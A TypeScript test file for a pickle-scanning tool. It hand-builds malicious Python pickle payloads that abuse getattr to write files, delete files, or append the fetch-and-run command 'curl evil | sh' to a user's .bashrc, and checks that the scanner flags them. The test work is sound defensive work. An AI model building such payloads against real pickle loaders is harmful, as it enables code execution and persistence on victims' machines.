import { describe, expect, it } from 'vitest';
import { scanPickleBytes } from './scan-pickle';

const enc = new TextEncoder();
const cat = (...parts: (Uint8Array | string | number[])[]) => {
  const bufs = parts.map((p) => (typeof p === 'string' ? enc.encode(p) : p instanceof Uint8Array ? p : new Uint8Array(p)));
  const out = new Uint8Array(bufs.reduce((n, b) => n + b.length, 0));
  let o = 0;
  for (const b of bufs) {
    out.set(b, o);
    o += b.length;
  }
  return out;
};
/** BINUNICODE */
const u = (s: string) => cat([0x58, s.length, 0, 0, 0], s);
const glob = (m: string, n: string) => `c${m}\n${n}\n`;
/** getattr(target, attr)(arg) in protocol 2 */
const getattrCall = (target: Uint8Array, attr: string, arg: string) =>
  cat([0x80, 2], glob('builtins', 'getattr'), '(', target, u(attr), 'tR(', u(arg), 'tR.');

describe('builtins.getattr on an instance of a known-safe class', () => {
  it('is dangerous when the class-qualified path writes files (PosixPath(p).write_text)', async () => {
    const target = cat(glob('pathlib', 'PosixPath'), '(', u('/home/u/.bashrc'), 'tR');
    const r = await scanPickleBytes(getattrCall(target, 'write_text', 'curl evil | sh'));
    const f = r.findings.find((x) => x.id === 'pickle/dangerous-call');
    expect(f?.severity).toBe('dangerous');
    expect(f?.category).toBe('code-execution');
    expect(f?.detail).toContain('pathlib.PosixPath.write_text');
    expect(r.plain).toBe(false);
  });

  it('is dangerous for ndarray.tofile on an array built by numpy _reconstruct', async () => {
    const target = cat(glob('numpy.core.multiarray', '_reconstruct'), '(', glob('numpy', 'ndarray'), '(K\x00t', 'C\x01b', 'tR');
    const r = await scanPickleBytes(getattrCall(target, 'tofile', '/tmp/x'));
    const f = r.findings.find((x) => x.id === 'pickle/dangerous-call');
    expect(f?.severity).toBe('dangerous');
    expect(f?.category).toBe('code-execution');
  });

  it('uses the class of copyreg._reconstructor(cls, ...)', async () => {
    const target = cat(glob('copyreg', '_reconstructor'), '(', glob('pathlib', 'PosixPath'), glob('builtins', 'object'), 'NtR');
    const r = await scanPickleBytes(getattrCall(target, 'unlink', 'x'));
    expect(r.findings.some((x) => x.id === 'pickle/dangerous-call' && x.severity === 'dangerous')).toBe(true);
  });

  it('stays clean for a harmless bound method (OrderedDict().copy)', async () => {
    const target = cat(glob('collections', 'OrderedDict'), ')R');
    const bytes = cat([0x80, 2], glob('builtins', 'getattr'), '(', target, u('copy'), 'tR)R.');
    const r = await scanPickleBytes(bytes);
    expect(r.findings.filter((x) => x.severity !== 'info')).toEqual([]);
  });
});
